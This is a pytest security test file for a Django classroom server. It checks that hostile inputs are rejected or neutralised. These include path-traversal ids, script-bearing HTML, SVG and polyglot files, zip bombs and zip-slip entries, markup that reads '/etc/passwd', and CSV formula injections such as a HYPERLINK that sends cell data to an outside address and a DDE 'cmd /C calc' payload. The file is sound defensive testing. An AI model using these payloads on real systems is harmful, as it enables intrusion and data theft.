"""The bad inputs a classroom server must survive, one test per row of the table (what is
sent, the answer, and what must not be lost or changed), all in one place.

Rows 36-38 (a drive pulled out mid-import, a full disk, a worker killed mid-encode) are
fault injection with real processes: tests/channels/transfer/test_disk_import.py
(`test_a_drive_pulled_out_mid_copy_exits_6...`, `test_a_full_disk_exits_5...`), the
crash-point tests, and tests/authoring/test_encode_consumer.py. Rows 30, 32 and 33 (what a
USB drive may carry) are in test_bad_drive_inputs.py beside this file.
"""

from __future__ import annotations

import csv
import io
import os
import select
import socket
import threading
import time
import zipfile
from pathlib import Path

import pypdf
import pytest
from django.db import connections
from rest_framework.test import APIClient

from authoring.models import Draft, DraftFile
from authoring.uploads_area import uploads_dir
from channels.models import Channel, ChannelVersion
from storage.models import StoredFile
from storage.paths import storage_url
from tests.authoring.factories import PDF, PNG, stored_draft_file
from tests.security.conftest import COURSE_ID, csrf_client, server_state

pytestmark = pytest.mark.django_db
MIB = 1024 * 1024


def files_under(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


def partial_uploads() -> list[str]:
    """Upload bodies in flight (`.part` files) left behind."""
    return [name for name in (os.listdir(uploads_dir()) if uploads_dir().is_dir() else [])]


def author_api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def draft(author_user) -> Draft:
    return Draft.objects.create(owner=author_user, name="Fractions", version_label="spring",
                                description="Halves", topics=[])


@pytest.fixture
def installed(make_channel, content_dir) -> str:
    return make_channel("maths", channel_id=COURSE_ID).channel_id


# --- rows 1-4 and 8: channel ids in URLs -------------------------------------------------------

BAD_CHANNEL_IDS = {
    "row 1: a path that climbs": "../../default",
    "row 2: percent-encoded ../../db": "%2e%2e%2f%2e%2e%2fdb",
    "row 2: percent-encoded ..\\..": "..%5c..",
    "row 3: 31 hex": COURSE_ID[:31],
    "row 3: 33 hex": COURSE_ID + "0",
    "row 4: the installed id in capitals": COURSE_ID.upper(),
    "row 4: one capital letter": COURSE_ID[:-1] + COURSE_ID[-1].upper() if
    COURSE_ID[-1].isalpha() else "A" + COURSE_ID[1:],
    "row 8: well-formed, no database": "c" * 32,
    "a trailing newline": COURSE_ID + "%0a",
}
CHANNEL_URLS = ("/api/content/{id}/contentnode/", "/api/content/{id}/contentnode",
                "/api/content/{id}/file/", "/api/content/{id}/contentnode/" + "b" * 32 + "/",
                "/content/databases/{id}.sqlite3", "/api/channels/{id}/",
                "/api/channels/{id}/versions/", "/channels/{id}/")


@pytest.mark.parametrize("bad_id", list(BAD_CHANNEL_IDS.values()), ids=list(BAD_CHANNEL_IDS))
def test_a_bad_channel_id_is_404_and_creates_or_changes_nothing(client, installed, admin_user,
                                                                 content_dir, bad_id):
    client.force_login(admin_user)  # the admin may read versions: only the id is wrong
    before = server_state(content_dir)
    databases = files_under(content_dir / "databases")
    for template in CHANNEL_URLS:
        url = template.format(id=bad_id)
        # Without the final slash Django first redirects to the address with it.
        response = client.get(url, follow=True)
        assert response.status_code == 404, (url, response.status_code)
    assert files_under(content_dir / "databases") == databases
    assert server_state(content_dir) == before
    assert sorted(path.name for path in (content_dir / "databases").glob("*.sqlite3*")) == [
        f"{installed}.sqlite3"]


def test_the_lowercase_id_still_works(client, installed):
    """The control for the test above: the same URLs with the real id answer."""
    assert client.get(f"/api/content/{installed}/contentnode/").status_code == 200
    assert client.get(f"/content/databases/{installed}.sqlite3").status_code == 200


# --- row 11: ranges ------------------------------------------------------------------------------

def test_a_range_past_the_end_is_416_and_a_thousand_ranges_cost_nothing(client, content_dir):
    data = os.urandom(300_000)
    from storage.files import put_file

    stored = put_file(data, "mp4")
    url = storage_url(stored.checksum, stored.extension)
    response = client.get(url, headers={"Range": "bytes=999999999999-"})
    assert response.status_code == 416
    assert response["Content-Range"] == f"bytes */{len(data)}"
    many = ",".join(f"{index * 10}-{index * 10 + 5}" for index in range(1000))
    started = time.monotonic()
    response = client.get(url, headers={"Range": f"bytes={many}"})
    body = b"".join(response.streaming_content)
    assert time.monotonic() - started < 2.0
    # Whole file or one range, never a 1000-part multipart body.
    assert response.status_code in (200, 206)
    assert "multipart" not in response["Content-Type"]
    assert len(body) <= len(data)


# --- rows 12 and 14: upload size and count -------------------------------------------------------

def test_an_upload_over_the_limit_is_413_before_its_body_is_read(author_user, draft,
                                                                 content_dir, settings):
    settings.MAX_UPLOAD_SIZE = 10 * MIB
    client = csrf_client(author_user, "owner")
    before = server_state(content_dir)
    body = io.BytesIO(b"--x\r\n")  # the rest never comes: it must not be waited for
    response = client.generic(
        "POST", f"/api/drafts/{draft.id}/files/", b"",
        content_type="multipart/form-data; boundary=x", CONTENT_LENGTH=str(200 * MIB),
        HTTP_X_CSRFTOKEN=client.csrf_token, **{"wsgi.input": body})
    assert response.status_code == 413, response.content
    assert body.tell() == 0
    # The resumable way: the declared length is refused before a byte is accepted.
    response = client.post(f"/api/drafts/{draft.id}/files/", HTTP_TUS_RESUMABLE="1.0.0",
                           HTTP_UPLOAD_LENGTH=str(11 * MIB),
                           HTTP_UPLOAD_METADATA="filename YmlnLnBkZg==",
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 413, response.content
    assert partial_uploads() == []
    assert server_state(content_dir) == before


def test_101_files_in_one_multipart_body_is_400_and_changes_nothing(author_user, draft,
                                                                    content_dir):
    client = csrf_client(author_user, "owner")
    before = server_state(content_dir)
    files = {f"file{index}": io.BytesIO(PDF) for index in range(101)}
    for index, upload in enumerate(files.values()):
        upload.name = f"lesson{index}.pdf"
    response = client.post(f"/api/drafts/{draft.id}/files/", files,
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 400, response.content[:300]
    assert response["Content-Type"] == "application/json"
    assert "detail" in response.json()
    assert server_state(content_dir) == before
    assert partial_uploads() == []


# --- rows 15 and 16: files that are not what they say --------------------------------------------

HTML = b"<!doctype html><html><script>fetch('/api/users/')</script></html>"
POLYGLOT = PNG + b"<html><script>alert(document.cookie)</script></html>"


@pytest.mark.parametrize(("name", "data"), [("talk.mp4", HTML), ("talk.mp4", POLYGLOT),
                                            ("intro.pdf", HTML)])
def test_an_upload_whose_bytes_are_not_its_type_is_415(author_user, draft, content_dir,
                                                       name, data):
    client = csrf_client(author_user, "owner")
    before = server_state(content_dir)
    upload = io.BytesIO(data)
    upload.name = name
    response = client.post(f"/api/drafts/{draft.id}/files/", {"file": upload},
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 415, response.content
    assert not DraftFile.objects.exists() and not StoredFile.objects.exists()
    assert server_state(content_dir) == before and partial_uploads() == []


@pytest.mark.parametrize(("data", "extension"), [
    (HTML, "mp4"), (POLYGLOT, "png"), (HTML, "html"), (HTML, "htm"), (HTML, "xhtml"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg"),
])
def test_the_main_origin_never_renders_stored_markup(client, content_dir, data, extension):
    """Whatever bytes a channel carries (a drive's files are not checked for their type),
    the main origin serves them so that no script in them runs there."""
    from tests.storage.conftest import write_into_storage

    placed = write_into_storage(content_dir / "storage", data, extension)
    response = client.get(placed.url)
    assert response.status_code == 200
    content_type = response["Content-Type"].split(";")[0]
    assert content_type not in ("text/html", "application/xhtml+xml")
    assert response["X-Content-Type-Options"] == "nosniff"
    if extension in ("svg", "html", "htm", "xhtml"):
        assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]


# --- rows 20 and 22: HTML5 app archives ----------------------------------------------------------

def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


APP = {"index.html": b"<p>app</p>", "app.js": b"console.log(1)"}
BAD_ARCHIVES = {
    "row 20: bomb (20 MiB of zeros)": zip_of({**APP, "bomb.bin": bytes(20 * MIB)}),
    "row 22: no index.html": zip_of({"app.js": b"x", "site/index.html": b"x"}),
    "row 22: ../x.html": zip_of({**APP, "../x.html": b"<p>out</p>"}),
    "row 22: /abs.html": zip_of({**APP, "/abs.html": b"<p>abs</p>"}),
}


@pytest.mark.parametrize("data", list(BAD_ARCHIVES.values()), ids=list(BAD_ARCHIVES))
def test_an_app_archive_that_breaks_the_checks_is_400_and_nothing_is_kept(author_user, draft,
                                                                          content_dir, data):
    client = csrf_client(author_user, "owner")
    storage_before = files_under(content_dir / "storage")
    upload = io.BytesIO(data)
    upload.name = "game.zip"
    response = client.post(f"/api/drafts/{draft.id}/files/", {"file": upload},
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 400, response.content
    assert files_under(content_dir / "storage") == storage_before
    assert not StoredFile.objects.exists() and partial_uploads() == []
    assert not DraftFile.objects.filter(state=DraftFile.State.FINISHED).exists()


def test_a_sound_app_archive_is_taken(author_user, draft):
    """The control: the same upload of a sound app is stored."""
    client = csrf_client(author_user, "owner")
    upload = io.BytesIO(zip_of(APP))
    upload.name = "game.zip"
    response = client.post(f"/api/drafts/{draft.id}/files/", {"file": upload},
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 201, response.content


# --- rows 23 and 24: what a certificate prints ----------------------------------------------------

def certificate_text(**overrides):
    import datetime as dt

    from learning.certificate_pdf import CertificateText

    values = {"learner_name": "Ada", "course_name": "Fractions", "version": 3,
              "version_label": "", "issued_on": dt.date(2026, 3, 1), "server_name": "Room 4",
              "code": "ABCDEFGHJKMNPQRS",
              "verify_url": "http://10.0.0.2:8000/certificates/verify/ABCDEFGHJKMNPQRS/"}
    return CertificateText(**{**values, **overrides})


def pdf_text_and_images(data: bytes) -> tuple[str, int]:
    """The page's text without white space (lines wrap anywhere), and its image count."""
    page = pypdf.PdfReader(io.BytesIO(data)).pages[0]
    return "".join(page.extract_text().split()), len(page.images)


def test_a_learner_name_that_is_markup_is_printed_as_text_and_reads_no_file(tmp_path):
    from learning.certificate_pdf import render_certificate_pdf

    # A real image file: markup taken as markup would embed it (or fail on the path).
    picture = tmp_path / "secret.png"
    picture.write_bytes(PNG)
    name = f'<img src="{picture}"><img src="/etc/passwd">'
    text, images = pdf_text_and_images(render_certificate_pdf(certificate_text(
        learner_name=name)))
    plain_images = pdf_text_and_images(render_certificate_pdf(certificate_text()))[1]
    assert "".join(name.split()) in text
    assert images == plain_images  # the QR code only: no image was read from a path


def test_a_course_title_with_a_remote_stylesheet_makes_no_connection():
    from learning.certificate_pdf import render_certificate_pdf

    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        port = listener.getsockname()[1]
        title = (f'<link rel="stylesheet" href="http://127.0.0.1:{port}/x.css">'
                 f'<img src="http://127.0.0.1:{port}/x.png">Fractions')
        text, _images = pdf_text_and_images(render_certificate_pdf(certificate_text(
            course_name=title)))
        readable, _w, _x = select.select([listener], [], [], 0.5)
        assert readable == [], "the renderer connected to the address in the title"
    assert "".join(title.split()) in text


# --- rows 26-28: who may publish, delete and read ------------------------------------------------

def publishable(draft: Draft) -> Draft:
    stored_draft_file(draft, PDF, "intro.pdf", file_type="document")
    return draft


@pytest.mark.parametrize("how", ["no token", "app origin", "null origin"])
def test_a_publish_without_token_or_from_the_app_origin_is_403(author_user, draft,
                                                               content_dir, settings, how):
    publishable(draft)
    settings.ZIP_PORT = 8001
    client = csrf_client(author_user, "owner")
    before = server_state(content_dir)
    headers = {"HTTP_HOST": "127.0.0.1:8000"}
    if how != "no token":
        headers["HTTP_X_CSRFTOKEN"] = client.csrf_token
        headers["HTTP_ORIGIN"] = "http://127.0.0.1:8001" if how == "app origin" else "null"
    response = client.post(f"/api/drafts/{draft.id}/publish/", **headers)
    assert response.status_code == 403, response.content
    assert server_state(content_dir) == before
    draft.refresh_from_db()
    assert draft.state == Draft.State.OPEN and not ChannelVersion.objects.exists()
    # The control: the same request with the token, from the main origin, publishes.
    response = client.post(f"/api/drafts/{draft.id}/publish/", HTTP_HOST="127.0.0.1:8000",
                           HTTP_ORIGIN="http://127.0.0.1:8000",
                           HTTP_X_CSRFTOKEN=client.csrf_token)
    assert response.status_code == 201, response.content


def test_a_learner_gets_404_for_another_learners_certificate_and_progress(world, signed_in):
    other = signed_in("learner2")
    certificate = world.certificate
    for url in (f"/api/certificates/{certificate.id}/", f"/api/certificates/{certificate.id}/pdf/",
                f"/author/courses/{world.channel_id}/progress/",
                f"/author/courses/{world.channel_id}/progress.csv"):
        assert other.get(url).status_code == 404, url
    progress = other.get(f"/api/progress/?channel_id={world.channel_id}").json()
    assert progress["count"] == 0
    assert signed_in("learner").get(f"/api/certificates/{certificate.id}/").status_code == 200


def channel_files(world) -> set[str]:
    return files_under(world.content_dir / "databases")


def test_learners_may_not_publish_or_delete_and_authors_only_their_own(world, signed_in):
    clients = {role: signed_in(role) for role in ("learner", "author2")}  # before: logins
    before = server_state(world.content_dir)
    versions = list(ChannelVersion.objects.filter(channel_id=world.channel_id).values())
    learner = clients["learner"]
    assert learner.post(f"/api/drafts/{world.draft.id}/publish/",
                        HTTP_X_CSRFTOKEN=learner.csrf_token).status_code == 403
    for role, client in clients.items():
        response = client.delete(f"/api/channels/{world.channel_id}/",
                                 HTTP_X_CSRFTOKEN=client.csrf_token)
        assert response.status_code == 403, (role, response.content)
    assert server_state(world.content_dir) == before
    assert list(ChannelVersion.objects.filter(channel_id=world.channel_id).values()) == versions
    assert Channel.objects.get(id=world.channel_id).state == Channel.State.AVAILABLE
    assert learner.get(f"/api/content/{world.channel_id}/contentnode/").status_code == 200


# --- row 29: two publishes at once ----------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
def test_two_publishes_of_one_draft_within_10_ms_make_one_version(author_user, draft):
    publishable(draft)
    statuses: list[int] = []
    barrier = threading.Barrier(2)

    def publish() -> None:
        try:
            client = author_api(author_user)
            barrier.wait(timeout=10)  # both requests leave together, well within 10 ms
            statuses.append(client.post(f"/api/drafts/{draft.id}/publish/").status_code)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=publish) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(statuses) == [201, 409]
    assert ChannelVersion.objects.filter(channel_id=draft.channel_id).count() == 1


# --- Host header ---------------------------------------------------------------------------------

def test_a_host_name_the_server_does_not_have_is_400(client, installed, content_dir):
    """A page served under someone else's name (DNS rebinding) could read the API."""
    before = server_state(content_dir)
    response = client.get("/api/channels/", HTTP_HOST="evil.example")
    assert response.status_code == 400
    assert "ALLOWED_HOSTS" in response.json()["detail"]
    assert client.get("/", HTTP_HOST="evil.example:8000").status_code == 400
    assert client.get("/api/channels/", HTTP_HOST="127.0.0.1:8000").status_code == 200
    assert server_state(content_dir) == before


# --- ids other than the canonical spelling ---------------------------------------------------------

def spellings(value: str) -> dict[str, str]:
    """What `uuid.UUID` would also take for the same id (and a trailing newline)."""
    return {"capitals": value.upper(), "no dashes": value.replace("-", ""),
            "braces": "{" + value + "}", "urn": "urn:uuid:" + value, "newline": value + "%0a",
            "space": "%20" + value}


def test_an_id_in_another_spelling_is_404(world, signed_in):
    admin = signed_in("admin")
    draft_id, file_id = str(world.draft.id), str(world.draft_file.id)
    urls = {"/api/drafts/{}/": draft_id, "/api/drafts/{}/files/": draft_id,
            f"/api/drafts/{draft_id}/files/{{}}/": file_id, "/api/tasks/{}/": str(world.job.id),
            "/api/certificates/{}/": str(world.certificate.id),
            "/api/certificates/{}/pdf/": str(world.certificate.id)}
    for template, value in urls.items():
        assert admin.get(template.format(value)).status_code == 200, template
        for how, spelled in spellings(value).items():
            response = admin.get(template.format(spelled))
            assert response.status_code == 404, (template, how, response.status_code)


# --- a learner's name that is a spreadsheet formula -----------------------------------------------

@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://10.0.0.9/?\"&A1,\"x\")",
                                  "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"])
def test_a_name_that_is_a_formula_is_text_in_the_progress_csv(world, signed_in, name):
    learner = world.users["learner"]
    learner.first_name = name
    learner.save()
    response = signed_in("owner").get(f"/author/courses/{world.channel_id}/progress.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    [row] = [row for row in rows[1:] if row[0] == learner.username]
    assert row[1] == "'" + name  # a spreadsheet shows it, never runs it
